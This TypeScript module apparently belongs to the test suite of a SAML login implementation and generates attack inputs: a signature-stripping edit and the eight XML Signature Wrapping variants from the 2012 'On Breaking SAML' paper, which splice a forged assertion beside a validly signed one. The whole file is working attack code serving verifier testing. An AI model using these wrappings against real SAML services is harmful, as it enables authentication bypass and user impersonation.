import { newId } from '../../../../../demo/spid/saml.ts'
import type { Edit } from './editing.ts'

const found = (pattern: RegExp, xml: string) => pattern.exec(xml)![0]
const assertionIn = (xml: string) => found(/<saml:Assertion [\s\S]*<\/saml:Assertion>/, xml)
const signatureIn = (xml: string) => found(/<ds:Signature [\s\S]*?<\/ds:Signature>/, xml)
const renamed = (xml: string) => xml.replace(/ ID="[^"]*"/, ` ID="${newId()}"`)

/** Without its first signature. */
export const unsigned: Edit = (xml) => xml.replace(signatureIn(xml), '')

/** The document with something else in place of its assertion. */
export const withAssertion =
  (make: Edit): Edit =>
  (xml) =>
    xml.replace(assertionIn(xml), make(assertionIn(xml)))

/**
 * Signature wrapping (Somorovsky et al., "On Breaking SAML", 2012): the eight ways of keeping a valid signature in a document of which
 * another part is meant to be read. The first two take a signed Response, the others one of which the assertion alone is signed.
 *
 * @param forged Makes of an assertion what the attacker wants to be read.
 */
export function wrappings(forged: Edit): readonly Edit[] {
  const evil: Edit = (assertion) => forged(renamed(unsigned(assertion)))
  /** The Response's signature with something around it, in a Response that says something else. */
  const around =
    (make: (signature: string, original: string) => string): Edit =>
    (xml) => {
      const signature = signatureIn(xml)
      const [before, after] = [xml.slice(0, xml.indexOf(signature)), xml.slice(xml.indexOf(signature) + signature.length)]
      return renamed(before) + make(signature, unsigned(xml)) + withAssertion(evil)(after)
    }
  const into = (holder: string, end: string, more: string) => holder.replace(end, more + end)
  return [
    around((signature, original) => into(signature, '</ds:Signature>', original)),
    around((signature, original) => original + signature),
    withAssertion((signed) => evil(signed) + signed),
    withAssertion((signed) => into(evil(signed), '</saml:Assertion>', signed)),
    withAssertion((signed) => forged(renamed(signed)) + unsigned(signed)),
    withAssertion((signed) => into(forged(renamed(signed)), '</ds:Signature>', unsigned(signed))),
    withAssertion((signed) => `<samlp:Extensions>${evil(signed)}</samlp:Extensions>${signed}`),
    withAssertion((signed) => into(forged(renamed(signed)), '</ds:Signature>', `<ds:Object>${unsigned(signed)}</ds:Object>`)),
  ]
}
